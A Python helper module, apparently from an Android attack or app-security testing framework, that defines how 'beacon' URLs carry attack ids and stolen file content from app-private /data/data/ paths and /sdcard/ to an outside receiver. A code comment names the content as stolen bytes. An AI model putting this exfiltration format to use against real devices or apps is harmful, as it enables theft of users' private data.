"""Beacon URL wire format and device path conventions shared by every module."""

from __future__ import annotations

from dataclasses import dataclass
from urllib.parse import quote, unquote_to_bytes

BEACON_PATH = "/req"
BEACON_PARAMS = ("pkg", "atk", "con", "ver", "kid")
MAX_CON_BYTES = 4096
REQFLAG = "reqflag"

PRIVATE_ROOT = "/data/data/"
SDCARD_ROOT = "/sdcard/"


def encode(value: str | bytes) -> str:
    if isinstance(value, str):
        value = value.encode("utf-8", "surrogateescape")
    return quote(value, safe="")


def decode(value: str) -> str:
    # surrogateescape keeps arbitrary stolen bytes recoverable from the str
    return unquote_to_bytes(value).decode("utf-8", "surrogateescape")


def con_bytes(con: str) -> bytes:
    return con.encode("utf-8", "surrogateescape")


def truncate(content: bytes) -> tuple[bytes, bool]:
    if len(content) > MAX_CON_BYTES:
        return content[:MAX_CON_BYTES], True
    return content, False


@dataclass(frozen=True)
class BeaconTarget:
    """Fixed part of a beacon URL; only ``con`` varies per emission."""

    receiver_base: str
    pkg: str
    atk: int
    ver: str
    kid: str

    @property
    def prefix(self) -> str:
        base = self.receiver_base.rstrip("/")
        return f"{base}{BEACON_PATH}?pkg={encode(self.pkg)}&atk={self.atk}&con="

    @property
    def suffix(self) -> str:
        return f"&ver={encode(self.ver)}&kid={encode(self.kid)}"

    def url(self, con: str | bytes = b"") -> str:
        if isinstance(con, str):
            con = con_bytes(con)
        con, cut = truncate(con)
        return self.prefix + encode(con) + self.suffix + ("&trunc=1" if cut else "")


def private_path(pkg: str, rel: str) -> str:
    return f"{PRIVATE_ROOT}{pkg}/{rel}"


def sdcard_path(rel: str) -> str:
    return f"{SDCARD_ROOT}{rel}"


def file_url(device_path: str) -> str:
    return "file://" + device_path
